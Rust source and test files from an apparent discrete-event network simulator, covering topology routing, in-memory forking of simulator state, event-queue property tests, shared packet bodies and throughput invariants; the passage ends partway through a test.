        // recorded traces), and the third byte takes over afterwards.
        let (v4, v6) = a.next_pair();
        assert_eq!(v4, IpAddr::V4(Ipv4Addr::new(10, 0, 255, 255)));
        assert_eq!(v6, IpAddr::V6(Ipv6Addr::new(0xfd00, 0, 0, 0, 0, 0, 0, 0xFFFF)));
        let (v4, v6) = a.next_pair();
        assert_eq!(v4, IpAddr::V4(Ipv4Addr::new(10, 1, 0, 0)));
        assert_eq!(v6, IpAddr::V6(Ipv6Addr::new(0xfd00, 0, 0, 0, 0, 0, 1, 0)));
    }

    #[derive(Default)]
    struct CountSink(u64);
    impl Application for CountSink {
        fn on_start(&mut self, ctx: &mut Ctx<'_>) {
            ctx.udp_bind(9).expect("bind");
        }
        fn on_packet(&mut self, _ctx: &mut Ctx<'_>, _p: &Packet) {
            self.0 += 1;
        }
    }

    struct OneShotSender(SocketAddr);
    impl Application for OneShotSender {
        fn on_start(&mut self, ctx: &mut Ctx<'_>) {
            ctx.udp_bind(1000).expect("bind");
            ctx.udp_send(1000, self.0, Payload::empty(), 64).expect("send");
        }
    }

    #[test]
    fn star_routes_between_members() {
        let mut sim = Simulator::new(9);
        let mut star = StarTopology::new(&mut sim, "internet");
        let a = sim.add_node("a");
        let b = sim.add_node("b");
        let cfg = LinkConfig::new(1_000_000, Duration::from_millis(5));
        let _ma = star.attach(&mut sim, a, cfg.clone());
        let mb = star.attach(&mut sim, b, cfg);
        let sink = sim.install_app(b, Box::new(CountSink::default()));
        sim.install_app(a, Box::new(OneShotSender(SocketAddr::new(mb.addr_v4, 9))));
        sim.run_until(SimTime::from_secs(1));
        assert_eq!(sim.app_ref::<CountSink>(sink).expect("sink").0, 1);
    }

    #[test]
    fn tiered_routes_across_regions() {
        let mut sim = Simulator::new(4);
        let mut t = TieredTopology::new(
            &mut sim,
            "net",
            3,
            LinkConfig::new(10_000_000, Duration::from_millis(2)),
        );
        let cfg = LinkConfig::new(1_000_000, Duration::from_millis(5));
        let a = sim.add_node("a");
        let b = sim.add_node("b");
        let srv = sim.add_node("srv");
        t.attach_region(&mut sim, 0, a, cfg.clone());
        let mb = t.attach_region(&mut sim, 1, b, cfg.clone());
        let ms = t.attach_backbone(&mut sim, srv, cfg);
        // region 0 -> region 1
        let sink_b = sim.install_app(b, Box::new(CountSink::default()));
        sim.install_app(a, Box::new(OneShotSender(SocketAddr::new(mb.addr_v4, 9))));
        // region 1 -> backbone member
        let sink_s = sim.install_app(srv, Box::new(CountSink::default()));
        sim.install_app(b, Box::new(OneShotSender(SocketAddr::new(ms.addr_v4, 9))));
        sim.run_until(SimTime::from_secs(1));
        assert_eq!(sim.app_ref::<CountSink>(sink_b).expect("sink").0, 1);
        assert_eq!(sim.app_ref::<CountSink>(sink_s).expect("sink").0, 1);
    }

    #[test]
    fn regional_uplink_is_a_shared_bottleneck() {
        // Two senders in one region share a 200 kbps uplink; the same pair
        // split across regions do not contend.
        let run = |same_region: bool| -> u64 {
            let mut sim = Simulator::new(6);
            let mut t = TieredTopology::new(
                &mut sim,
                "net",
                2,
                LinkConfig::new(200_000, Duration::from_millis(2)),
            );
            let cfg = LinkConfig::new(2_000_000, Duration::from_millis(5));
            let srv = sim.add_node("srv");
            let ms = t.attach_backbone(&mut sim, srv, LinkConfig::default());
            let sink = sim.install_app(srv, Box::new(CountSink::default()));
            for i in 0..2usize {
                let n = sim.add_node(format!("s{i}"));
                let region = if same_region { 0 } else { i };
                t.attach_region(&mut sim, region, n, cfg.clone());
                struct Flood(SocketAddr);
                impl Application for Flood {
                    fn on_start(&mut self, ctx: &mut Ctx<'_>) {
                        ctx.udp_bind(1000).expect("bind");
                        ctx.set_timer(Duration::ZERO, 0);
                    }
                    fn on_timer(&mut self, ctx: &mut Ctx<'_>, _t: u64) {
                        let _ = ctx.udp_send(1000, self.0, Payload::empty(), 500);
                        ctx.set_timer(Duration::from_millis(5), 0);
                    }
                }
                sim.install_app(n, Box::new(Flood(SocketAddr::new(ms.addr_v4, 9))));
            }
            sim.run_until(SimTime::from_secs(5));
            sim.app_ref::<CountSink>(sink).expect("sink").0
        };
        let contended = run(true);
        let spread = run(false);
        assert!(
            spread as f64 > contended as f64 * 1.5,
            "splitting regions should relieve the uplink: {contended} vs {spread}"
        );
    }

    #[test]
    #[should_panic(expected = "at least one region")]
    fn tiered_requires_regions() {
        let mut sim = Simulator::new(0);
        let _ = TieredTopology::new(&mut sim, "x", 0, LinkConfig::default());
    }

    #[test]
    fn star_routes_ipv6_too() {
        let mut sim = Simulator::new(9);
        let mut star = StarTopology::new(&mut sim, "internet");
        let a = sim.add_node("a");
        let b = sim.add_node("b");
        let cfg = LinkConfig::default();
        star.attach(&mut sim, a, cfg.clone());
        let mb = star.attach(&mut sim, b, cfg);
        let sink = sim.install_app(b, Box::new(CountSink::default()));
        sim.install_app(a, Box::new(OneShotSender(SocketAddr::new(mb.addr_v6, 9))));
        sim.run_until(SimTime::from_secs(1));
        assert_eq!(sim.app_ref::<CountSink>(sink).expect("sink").0, 1);
    }
}
