//! In-memory fork support: deep-cloning a live simulator world.
//!
//! Checkpoint *restore* (PR 5) rebuilds a world by replaying its event
//! prefix; a **fork** instead deep-clones the live world in memory, so K
//! divergent futures can branch from one simulated instant without paying
//! the prefix again — the prefix-sharing analogue of KV-cache reuse in an
//! inference stack.
//!
//! Three pieces make an arbitrary world forkable:
//!
//! * [`ForkMap`] — a type-erased translation table from *old* shared-state
//!   identity (the pointer address of an `Rc`-backed handle in the parent)
//!   to the *new* handle in the fork. Layers above `netsim` (firmware
//!   containers, malware state) register their cloned handles here before
//!   the simulator clones applications, and remapping apps look their new
//!   handles up during [`Application::fork`](crate::app::Application::fork).
//! * [`ForkClone`] — clone *under a fork map*. Deliberately **not** blanket
//!   implemented for `Clone`: a plain `Clone` of an `Rc`-backed handle would
//!   alias the parent's state, which is exactly the bug a fork must avoid.
//!   Plain-data types implement it as `Clone`; handle types implement it as
//!   a [`ForkMap`] lookup.
//! * [`ForkableCall`] / [`ForkableFn`] — the forkable replacement for
//!   `Event::Call` closures. A boxed `FnOnce` cannot be cloned, so any
//!   self-scheduled work that must survive a fork is expressed as plain
//!   data plus a `fn` pointer; forking clones the data through the map.

use crate::fastmap::FastMap;
use crate::ids::{AppId, ChannelId, IfaceId, LinkId, NodeId};
use crate::sim::Simulator;
use crate::tcp::ConnId;
use crate::time::SimTime;
use std::any::Any;
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr};
use std::sync::Arc;
use std::time::Duration;

/// Translation table from parent-world shared-state identity to the
/// fork's replacement handles.
///
/// Keys are opaque `usize` identities — by convention the address of the
/// parent's `Rc` allocation (`Rc::as_ptr(..) as usize`), which is unique
/// per live allocation. Values are type-erased boxed handles; [`get`]
/// downcasts back to the concrete handle type and clones it.
///
/// [`get`]: ForkMap::get
#[derive(Default)]
pub struct ForkMap {
    entries: FastMap<usize, Box<dyn Any>>,
}

impl std::fmt::Debug for ForkMap {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("ForkMap").field("entries", &self.entries.len()).finish()
    }
}

impl ForkMap {
    /// An empty map.
    pub fn new() -> Self {
        ForkMap::default()
    }

    /// Registers `value` as the fork's replacement for the parent handle
    /// identified by `key`. Later registrations overwrite earlier ones.
    pub fn register<T: Any>(&mut self, key: usize, value: T) {
        self.entries.insert(key, Box::new(value));
    }

    /// Looks up the replacement handle registered under `key`, cloning it
    /// out. `None` when the key is unknown or registered at another type.
    pub fn get<T: Any + Clone>(&self, key: usize) -> Option<T> {
        self.entries.get(&key).and_then(|v| v.downcast_ref::<T>()).cloned()
    }

    /// Number of registered translations.
    pub fn len(&self) -> usize {
        self.entries.len()
    }

    /// Whether no translations are registered.
    pub fn is_empty(&self) -> bool {
        self.entries.is_empty()
    }
}

/// Clone under a fork map.
///
/// Plain data clones as itself; `Rc`-backed handles translate through the
/// map so the fork never aliases parent state. There is intentionally no
/// `impl<T: Clone> ForkClone for T`: that blanket impl would give handle
/// types aliasing semantics silently.
pub trait ForkClone: Sized {
    /// Produces this value's counterpart in the forked world.
    fn fork_clone(&self, map: &ForkMap) -> Self;
}

macro_rules! plain_fork_clone {
    ($($t:ty),* $(,)?) => {$(
        impl ForkClone for $t {
            fn fork_clone(&self, _map: &ForkMap) -> Self {
                self.clone()
            }
        }
    )*};
}

plain_fork_clone!(
    (),
    bool,
    u8,
    u16,
    u32,
    u64,
    usize,
    i64,
    f64,
    String,
    Duration,
    SimTime,
    IpAddr,
    Ipv4Addr,
    Ipv6Addr,
    SocketAddr,
    NodeId,
    LinkId,
    AppId,
    ChannelId,
    IfaceId,
    ConnId,
);

// Arc-shared data is immutable by convention in this workspace (payload
// bodies, program tables); sharing it across forks is correct and cheap.
impl<T: ?Sized> ForkClone for Arc<T> {
    fn fork_clone(&self, _map: &ForkMap) -> Self {
        Arc::clone(self)
    }
}

impl<T: ForkClone> ForkClone for Option<T> {
    fn fork_clone(&self, map: &ForkMap) -> Self {
        self.as_ref().map(|v| v.fork_clone(map))
    }
}

impl<T: ForkClone> ForkClone for Vec<T> {
    fn fork_clone(&self, map: &ForkMap) -> Self {
        self.iter().map(|v| v.fork_clone(map)).collect()
    }
}

impl<A: ForkClone, B: ForkClone> ForkClone for (A, B) {
    fn fork_clone(&self, map: &ForkMap) -> Self {
        (self.0.fork_clone(map), self.1.fork_clone(map))
    }
}

impl<A: ForkClone, B: ForkClone, C: ForkClone> ForkClone for (A, B, C) {
    fn fork_clone(&self, map: &ForkMap) -> Self {
        (self.0.fork_clone(map), self.1.fork_clone(map), self.2.fork_clone(map))
    }
}

impl<A: ForkClone, B: ForkClone, C: ForkClone, D: ForkClone> ForkClone for (A, B, C, D) {
    fn fork_clone(&self, map: &ForkMap) -> Self {
        (
            self.0.fork_clone(map),
            self.1.fork_clone(map),
            self.2.fork_clone(map),
            self.3.fork_clone(map),
        )
    }
}

/// A pending simulator callback that can be deep-cloned into a fork.
///
/// The forkable counterpart of `Event::Call`'s boxed `FnOnce`: state is
/// explicit data, behaviour is a plain `fn` pointer, and [`fork`] clones
/// the data through the [`ForkMap`].
///
/// [`fork`]: ForkableCall::fork
pub trait ForkableCall: Any {
    /// Runs the callback, consuming it.
    fn call(self: Box<Self>, sim: &mut Simulator);
    /// Clones the pending callback into the forked world.
    fn fork(&self, map: &ForkMap) -> Box<dyn ForkableCall>;
    /// Stable label folded into event-queue digests, so a forked queue
    /// digests identically to its parent.
    fn digest_label(&self) -> &'static str;
}

impl std::fmt::Debug for dyn ForkableCall {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "ForkableCall({})", self.digest_label())
    }
}

/// The one production [`ForkableCall`] shape: captured data plus a `fn`
/// pointer. Built by [`Simulator::schedule_forkable_call`].
///
/// [`Simulator::schedule_forkable_call`]: crate::sim::Simulator::schedule_forkable_call
pub struct ForkableFn<T: ForkClone + 'static> {
    /// Captured state, cloned through the fork map on fork.
    pub data: T,
    /// The behaviour; `fn` pointers are `Copy`, so forking shares it.
    pub f: fn(&mut Simulator, T),
    /// Stable digest label (see [`ForkableCall::digest_label`]).
    pub label: &'static str,
}

impl<T: ForkClone + 'static> std::fmt::Debug for ForkableFn<T> {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "ForkableFn({})", self.label)
    }
}

impl<T: ForkClone + 'static> ForkableCall for ForkableFn<T> {
    fn call(self: Box<Self>, sim: &mut Simulator) {
        (self.f)(sim, self.data);
    }

    fn fork(&self, map: &ForkMap) -> Box<dyn ForkableCall> {
        Box::new(ForkableFn { data: self.data.fork_clone(map), f: self.f, label: self.label })
    }

    fn digest_label(&self) -> &'static str {
        self.label
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::rc::Rc;

    #[derive(Clone, Debug, PartialEq)]
    struct Handle(Rc<u32>);

    impl ForkClone for Handle {
        fn fork_clone(&self, map: &ForkMap) -> Self {
            map.get::<Handle>(Rc::as_ptr(&self.0) as usize)
                .expect("handle registered before fork")
        }
    }

    #[test]
    fn map_round_trips_typed_handles() {
        let old = Handle(Rc::new(7));
        let new = Handle(Rc::new(7));
        let mut map = ForkMap::new();
        let key = Rc::as_ptr(&old.0) as usize;
        map.register(key, new.clone());
        let got = old.fork_clone(&map);
        assert!(Rc::ptr_eq(&got.0, &new.0), "lookup returns the registered handle");
        assert!(!Rc::ptr_eq(&got.0, &old.0), "fork must not alias the parent");
        assert!(map.get::<u32>(key).is_none(), "wrong type does not downcast");
        assert!(map.get::<Handle>(key + 1).is_none(), "unknown key misses");
    }

    #[test]
    fn containers_and_tuples_fork_elementwise() {
        let map = ForkMap::new();
        let v: Vec<(u64, String)> = vec![(1, "a".into()), (2, "b".into())];
        assert_eq!(v.fork_clone(&map), v);
        let o: Option<(bool, f64, u32)> = Some((true, 0.5, 9));
        assert_eq!(o.fork_clone(&map), o);
    }

    #[test]
    fn forkable_fn_clones_data_and_shares_behaviour() {
        let call = ForkableFn {
            data: 41u64,
            f: |_sim: &mut Simulator, _n: u64| {},
            label: "test",
        };
        let forked = call.fork(&ForkMap::new());
        assert_eq!(forked.digest_label(), "test");
    }
}
