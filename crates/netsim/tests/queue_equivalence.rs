//! Property tests proving the calendar [`EventQueue`] observationally
//! identical to the plain binary-heap [`ReferenceQueue`] it replaced.
//!
//! The simulator's determinism hinges on the queue popping in exact
//! `(time, seq)` order, so these tests drive both implementations through
//! the same schedules — including same-tick ties, pushes interleaved with
//! pops (events scheduled while the simulation runs), bucket-boundary
//! times, and far-future overflow times — and require identical pop
//! sequences.

use netsim::equeue::{BUCKET_SPAN_NANOS, NUM_BUCKETS};
use netsim::{EventQueue, ReferenceQueue, SimTime, TimeOrderedQueue};
use proptest::prelude::*;

/// Drains both queues fully, comparing every popped `(time, seq, payload)`.
fn assert_drain_identical(wheel: &mut EventQueue<u64>, reference: &mut ReferenceQueue<u64>) {
    loop {
        assert_eq!(wheel.len(), reference.len());
        assert_eq!(wheel.peek_key(), reference.peek_key());
        let (a, b) = (wheel.pop(), reference.pop());
        assert_eq!(a, b);
        if a.is_none() {
            return;
        }
    }
}

/// Widens a raw u64 into an interesting time: most weight on wheel-scale
/// values, some on bucket boundaries and far-future overflow times.
fn shape_time(raw: u64) -> u64 {
    let span = BUCKET_SPAN_NANOS;
    let wheel = span * NUM_BUCKETS as u64;
    match raw % 8 {
        // Dense near-term cluster: many same-tick ties.
        0 | 1 => raw % 64,
        // Within one bucket.
        2 => raw % span,
        // Across the wheel.
        3 | 4 => raw % wheel,
        // Exactly on bucket boundaries.
        5 => (raw % (NUM_BUCKETS as u64 * 4)) * span,
        // Just beyond the wheel horizon.
        6 => wheel + raw % (4 * wheel),
        // Deep overflow.
        _ => raw % (u64::MAX / 2) + wheel,
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn random_schedules_pop_identically(raw_times in proptest::collection::vec(any::<u64>(), 1..400)) {
        let mut wheel = EventQueue::new();
        let mut reference = ReferenceQueue::new();
        for (seq, raw) in raw_times.iter().enumerate() {
            let t = SimTime::from_nanos(shape_time(*raw));
            wheel.push(t, seq as u64, *raw);
            reference.push(t, seq as u64, *raw);
        }
        assert_drain_identical(&mut wheel, &mut reference);
    }

    #[test]
    fn same_tick_ties_pop_in_schedule_order(tick in any::<u32>(), n in 2usize..64) {
        let mut wheel = EventQueue::new();
        let t = SimTime::from_nanos(u64::from(tick));
        for seq in 0..n as u64 {
            wheel.push(t, seq, seq);
        }
        for expected in 0..n as u64 {
            let (pt, seq, item) = wheel.pop().expect("queue holds n events");
            prop_assert_eq!(pt, t);
            prop_assert_eq!(seq, expected);
            prop_assert_eq!(item, expected);
        }
        prop_assert!(wheel.pop().is_none());
    }

    #[test]
    fn schedule_during_pop_matches_reference(
        initial in proptest::collection::vec(any::<u64>(), 1..120),
        follow_ups in proptest::collection::vec(any::<u64>(), 1..120),
    ) {
        // Models the simulator's actual usage: handling one event schedules
        // more events at or after the popped time (the run loop clamps to
        // `now`), interleaved with further pops.
        let mut wheel = EventQueue::new();
        let mut reference = ReferenceQueue::new();
        let mut seq = 0u64;
        for raw in &initial {
            let t = SimTime::from_nanos(shape_time(*raw));
            wheel.push(t, seq, *raw);
            reference.push(t, seq, *raw);
            seq += 1;
        }
        let mut follow = follow_ups.iter();
        loop {
            prop_assert_eq!(wheel.peek_key(), reference.peek_key());
            let (a, b) = (wheel.pop(), reference.pop());
            prop_assert_eq!(&a, &b);
            let Some((now, _, _)) = a else { break };
            if let Some(raw) = follow.next() {
                // Schedule relative to the popped time, never in the past.
                // Offsets reuse the full shape: near-term ties, wheel-scale,
                // and beyond-horizon times that park in overflow and can
                // become overdue while the wheel stays busy.
                let t = SimTime::from_nanos(now.as_nanos().saturating_add(shape_time(*raw)));
                wheel.push(t, seq, *raw);
                reference.push(t, seq, *raw);
                seq += 1;
            }
        }
        prop_assert!(reference.is_empty());
    }

    #[test]
    fn peak_depth_matches_reference(
        raw_times in proptest::collection::vec(any::<u64>(), 1..200),
        pop_every in 1usize..5,
    ) {
        let mut wheel = EventQueue::new();
        let mut reference = ReferenceQueue::new();
        for (seq, raw) in raw_times.iter().enumerate() {
            let t = SimTime::from_nanos(shape_time(*raw));
            wheel.push(t, seq as u64, *raw);
            reference.push(t, seq as u64, *raw);
            if seq % pop_every == 0 {
                prop_assert_eq!(wheel.pop(), reference.pop());
            }
        }
        prop_assert_eq!(wheel.peak_len(), reference.peak_len());
    }
}
