//! Arc-shared packet bodies: every copy the wire makes of a sent packet
//! aliases the sender's allocation, and the sharing is invisible to the
//! accounting (wire sizes and stats counters are unchanged).
//!
//! Mutation-after-send is impossible by construction — `Packet` exposes its
//! body only through `Deref`, so there is no way to write a body field
//! through any copy (see the `compile_fail` doctest on `Packet`). These
//! tests cover the runtime half: the copies really are aliases, on both the
//! point-to-point and the Wi-Fi path.

use netsim::{
    Application, Ctx, LinkConfig, Packet, Payload, SimTime, Simulator, WifiConfig,
    packet::DEFAULT_HEADER_BYTES,
};
use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::time::Duration;

fn v4(d: u8) -> IpAddr {
    IpAddr::V4(Ipv4Addr::new(10, 0, 0, d))
}

/// Sends raw packets and retains a clone of each one it sent.
struct RetainingSender {
    dst: SocketAddr,
    count: u32,
    payload: u32,
    sent: Vec<Packet>,
}

impl Application for RetainingSender {
    fn on_start(&mut self, ctx: &mut Ctx<'_>) {
        ctx.udp_bind(1000).expect("bind");
        ctx.set_timer(Duration::ZERO, 0);
    }
    fn on_timer(&mut self, ctx: &mut Ctx<'_>, _t: u64) {
        if self.sent.len() as u32 >= self.count {
            return;
        }
        let src_ip = ctx.my_addr(self.dst.is_ipv6()).expect("addr");
        let pkt = Packet::udp(
            SocketAddr::new(src_ip, 1000),
            self.dst,
            Payload::empty(),
            self.payload,
        );
        self.sent.push(pkt.clone());
        ctx.send_raw(pkt);
        ctx.set_timer(Duration::from_millis(5), 0);
    }
}

/// Delivers into a vector so the test can inspect the received copies.
#[derive(Default)]
struct Capture {
    got: Vec<Packet>,
    join: Option<IpAddr>,
}

impl Application for Capture {
    fn on_start(&mut self, ctx: &mut Ctx<'_>) {
        ctx.udp_bind(9).expect("bind");
        if let Some(group) = self.join {
            ctx.join_multicast(group);
        }
    }
    fn on_packet(&mut self, _ctx: &mut Ctx<'_>, p: &Packet) {
        self.got.push(p.clone());
    }
}

/// Two nodes joined by a p2p link; returns (sender handle, sink handle, sim).
fn p2p_world(count: u32, payload: u32) -> (netsim::AppId, netsim::AppId, Simulator) {
    let mut sim = Simulator::new(21);
    let a = sim.add_node("a");
    let b = sim.add_node("b");
    let ia = sim.add_iface(a, vec![v4(1)]);
    let ib = sim.add_iface(b, vec![v4(2)]);
    sim.connect_p2p(ia, ib, LinkConfig::new(10_000_000, Duration::from_millis(1)))
        .expect("link");
    sim.add_default_route(a, ia);
    sim.add_default_route(b, ib);
    let sink = sim.install_app(b, Box::new(Capture::default()));
    let tx = sim.install_app(
        a,
        Box::new(RetainingSender {
            dst: SocketAddr::new(v4(2), 9),
            count,
            payload,
            sent: Vec::new(),
        }),
    );
    sim.run_until(SimTime::from_secs(10));
    (tx, sink, sim)
}

#[test]
fn delivered_p2p_packets_alias_the_senders_allocation() {
    let (tx, sink, sim) = p2p_world(20, 512);
    let sent = &sim.app_ref::<RetainingSender>(tx).expect("sender").sent;
    let got = &sim.app_ref::<Capture>(sink).expect("sink").got;
    assert_eq!(sent.len(), 20);
    assert_eq!(got.len(), 20);
    for (s, g) in sent.iter().zip(got) {
        assert!(
            s.shares_body_with(g),
            "the wire must move the Arc, not deep-copy the body"
        );
        // Only per-hop state may diverge between the copies.
        assert_eq!(s.wire_bytes(), g.wire_bytes());
        assert_eq!(s.src, g.src);
        assert_eq!(s.dst, g.dst);
    }
}

#[test]
fn stats_byte_counters_match_wire_sizes_exactly() {
    // Locks the size accounting across the Arc refactor: 20 packets of
    // 512-byte payload at 28 bytes of header each, all delivered.
    let (_, _, sim) = p2p_world(20, 512);
    let s = sim.stats();
    let wire = u64::from(512 + DEFAULT_HEADER_BYTES);
    assert_eq!(s.packets_sent, 20);
    assert_eq!(s.packets_delivered, 20);
    assert_eq!(s.bytes_delivered, 20 * wire);
    assert_eq!(s.total_dropped(), 0);
}

#[test]
fn multicast_fanout_copies_share_one_body() {
    // One sender with two interfaces, each wired to a different receiver
    // that joined the group: the fan-out at route time clones the packet
    // per interface, and both delivered copies must alias one allocation.
    let group = IpAddr::V4(Ipv4Addr::new(224, 0, 0, 1));
    let mut sim = Simulator::new(13);
    let a = sim.add_node("src");
    let b = sim.add_node("rx1");
    let c = sim.add_node("rx2");
    let ia1 = sim.add_iface(a, vec![v4(1)]);
    let ia2 = sim.add_iface(a, vec![v4(2)]);
    let ib = sim.add_iface(b, vec![v4(3)]);
    let ic = sim.add_iface(c, vec![v4(4)]);
    let cfg = LinkConfig::new(10_000_000, Duration::from_millis(1));
    sim.connect_p2p(ia1, ib, cfg.clone()).expect("link");
    sim.connect_p2p(ia2, ic, cfg).expect("link");
    let rx1 = sim.install_app(
        b,
        Box::new(Capture {
            join: Some(group),
            ..Capture::default()
        }),
    );
    let rx2 = sim.install_app(
        c,
        Box::new(Capture {
            join: Some(group),
            ..Capture::default()
        }),
    );
    let tx = sim.install_app(
        a,
        Box::new(RetainingSender {
            dst: SocketAddr::new(group, 9),
            count: 5,
            payload: 64,
            sent: Vec::new(),
        }),
    );
    sim.run_until(SimTime::from_secs(5));
    let sent = &sim.app_ref::<RetainingSender>(tx).expect("sender").sent;
    let got1 = &sim.app_ref::<Capture>(rx1).expect("rx1").got;
    let got2 = &sim.app_ref::<Capture>(rx2).expect("rx2").got;
    assert_eq!(sent.len(), 5);
    assert_eq!(got1.len(), 5, "receiver 1 gets every multicast packet");
    assert_eq!(got2.len(), 5, "receiver 2 gets every multicast packet");
    for ((s, g1), g2) in sent.iter().zip(got1).zip(got2) {
        assert!(s.shares_body_with(g1));
        assert!(s.shares_body_with(g2));
        assert!(g1.shares_body_with(g2), "fan-out copies alias one body");
    }
}

#[test]
fn wifi_delivered_packets_alias_the_senders_allocation() {
    // The Wi-Fi path clones the head frame for the air and again for
    // delivery; every copy must still alias the sender's body.
    let mut sim = Simulator::new(17);
    let chan = sim.add_wifi_channel(WifiConfig::default());
    let a = sim.add_node("sta");
    let b = sim.add_node("ap");
    let ia = sim.add_iface(a, vec![v4(1)]);
    let ib = sim.add_iface(b, vec![v4(2)]);
    sim.attach_wifi(ia, chan).expect("attach");
    sim.attach_wifi(ib, chan).expect("attach");
    sim.add_default_route(a, ia);
    sim.add_default_route(b, ib);
    let sink = sim.install_app(b, Box::new(Capture::default()));
    let tx = sim.install_app(
        a,
        Box::new(RetainingSender {
            dst: SocketAddr::new(v4(2), 9),
            count: 10,
            payload: 256,
            sent: Vec::new(),
        }),
    );
    sim.run_until(SimTime::from_secs(10));
    let sent = &sim.app_ref::<RetainingSender>(tx).expect("sender").sent;
    let got = &sim.app_ref::<Capture>(sink).expect("sink").got;
    assert_eq!(sent.len(), 10);
    assert_eq!(got.len(), 10);
    for (s, g) in sent.iter().zip(got) {
        assert!(s.shares_body_with(g));
        assert_eq!(s.wire_bytes(), g.wire_bytes());
    }
}
