//! Simulator-level invariants: conservation, bounds, and shaping
//! behaviour, including property-based checks.

use netsim::topology::StarTopology;
use netsim::{
    Application, Ctx, FilterVerdict, LinkConfig, NodeId, Packet, Payload, SimTime, Simulator,
    WifiConfig,
};
use proptest::prelude::*;
use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::time::Duration;

fn v4(d: u8) -> IpAddr {
    IpAddr::V4(Ipv4Addr::new(10, 0, 0, d))
}

#[derive(Default)]
struct Sink {
    packets: u64,
    bytes: u64,
}
impl Application for Sink {
    fn on_start(&mut self, ctx: &mut Ctx<'_>) {
        ctx.udp_bind(9).expect("bind");
    }
    fn on_packet(&mut self, _ctx: &mut Ctx<'_>, p: &Packet) {
        self.packets += 1;
        self.bytes += u64::from(p.wire_bytes());
    }
}

struct Blaster {
    dst: SocketAddr,
    count: u32,
    interval: Duration,
    payload: u32,
    sent: u32,
}
impl Application for Blaster {
    fn on_start(&mut self, ctx: &mut Ctx<'_>) {
        ctx.udp_bind(1000).expect("bind");
        ctx.set_timer(Duration::ZERO, 0);
    }
    fn on_timer(&mut self, ctx: &mut Ctx<'_>, _t: u64) {
        if self.sent >= self.count {
            return;
        }
        self.sent += 1;
        ctx.udp_send(1000, self.dst, Payload::empty(), self.payload)
            .expect("send");
        ctx.set_timer(self.interval, 0);
    }
}

/// sent == delivered + dropped, for arbitrary offered loads.
fn conservation_case(count: u32, interval_us: u64, rate_bps: u64) {
    let mut sim = Simulator::new(7);
    let a = sim.add_node("a");
    let b = sim.add_node("b");
    let ia = sim.add_iface(a, vec![v4(1)]);
    let ib = sim.add_iface(b, vec![v4(2)]);
    sim.connect_p2p(ia, ib, LinkConfig::new(rate_bps, Duration::from_millis(1)))
        .expect("link");
    sim.add_default_route(a, ia);
    sim.add_default_route(b, ib);
    sim.install_app(b, Box::new(Sink::default()));
    sim.install_app(
        a,
        Box::new(Blaster {
            dst: SocketAddr::new(v4(2), 9),
            count,
            interval: Duration::from_micros(interval_us),
            payload: 512,
            sent: 0,
        }),
    );
    sim.run_until(SimTime::from_secs(120));
    let s = sim.stats();
    assert_eq!(
        s.packets_sent,
        s.packets_delivered + s.total_dropped(),
        "conservation violated: {s:?}"
    );
    assert_eq!(sim.buffered_bytes(), 0, "queues must drain by the horizon");
}

#[test]
fn packet_conservation_underload() {
    conservation_case(500, 10_000, 10_000_000);
}

#[test]
fn packet_conservation_overload() {
    // Offered ~432 Mbps into a 1 Mbps link: most packets drop, but the
    // books still balance.
    conservation_case(5_000, 10, 1_000_000);
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(16))]
    #[test]
    fn packet_conservation_random(
        count in 1u32..800,
        interval_us in 10u64..20_000,
        rate_kbps in 50u64..50_000,
    ) {
        conservation_case(count, interval_us, rate_kbps * 1000);
    }
}

#[test]
fn wifi_shaping_caps_station_throughput() {
    let mut sim = Simulator::new(5);
    let chan = sim.add_wifi_channel(WifiConfig {
        rate_bps: 54_000_000,
        ..WifiConfig::default()
    });
    let a = sim.add_node("sta");
    let b = sim.add_node("ap");
    let ia = sim.add_iface(a, vec![v4(1)]);
    let ib = sim.add_iface(b, vec![v4(2)]);
    sim.attach_wifi(ia, chan).expect("attach");
    sim.attach_wifi(ib, chan).expect("attach");
    sim.add_default_route(a, ia);
    // Shape the station to 200 kbps while offering ~2.2 Mbps.
    sim.set_wifi_station_shaping(chan, ia, 200_000);
    let sink = sim.install_app(b, Box::new(Sink::default()));
    sim.install_app(
        a,
        Box::new(Blaster {
            dst: SocketAddr::new(v4(2), 9),
            count: 10_000,
            interval: Duration::from_millis(2),
            payload: 512,
            sent: 0,
        }),
    );
    sim.run_until(SimTime::from_secs(10));
    let bytes = sim.app_ref::<Sink>(sink).expect("sink").bytes;
    let kbps = bytes as f64 * 8.0 / 1000.0 / 10.0;
    assert!(
        (120.0..=230.0).contains(&kbps),
        "shaped throughput should approach 200 kbps, got {kbps:.0}"
    );
}

#[test]
fn wifi_contention_degrades_aggregate_throughput_per_station() {
    // Aggregate throughput per station falls as stations multiply on a
    // saturated medium (collisions + sharing).
    let run = |stations: usize| -> f64 {
        let mut sim = Simulator::new(11);
        let chan = sim.add_wifi_channel(WifiConfig {
            rate_bps: 2_000_000,
            ..WifiConfig::default()
        });
        let ap = sim.add_node("ap");
        let iap = sim.add_iface(ap, vec![v4(200)]);
        sim.attach_wifi(iap, chan).expect("attach");
        sim.set_wifi_gateway(chan, iap);
        let sink = sim.install_app(ap, Box::new(Sink::default()));
        for i in 0..stations {
            let n = sim.add_node(format!("sta{i}"));
            let iface = sim.add_iface(n, vec![v4(i as u8 + 1)]);
            sim.attach_wifi(iface, chan).expect("attach");
            sim.add_default_route(n, iface);
            sim.install_app(
                n,
                Box::new(Blaster {
                    dst: SocketAddr::new(v4(200), 9),
                    count: 100_000,
                    interval: Duration::from_micros(500),
                    payload: 512,
                    sent: 0,
                }),
            );
        }
        sim.run_until(SimTime::from_secs(5));
        sim.app_ref::<Sink>(sink).expect("sink").bytes as f64 / stations as f64
    };
    let few = run(2);
    let many = run(12);
    assert!(
        many < few,
        "per-station goodput must fall with contention: 2 stations {few:.0} B vs 12 stations {many:.0} B"
    );
}

#[test]
fn ingress_filter_sees_transit_traffic() {
    let mut sim = Simulator::new(3);
    let mut star = StarTopology::new(&mut sim, "fabric");
    let a = sim.add_node("a");
    let b = sim.add_node("b");
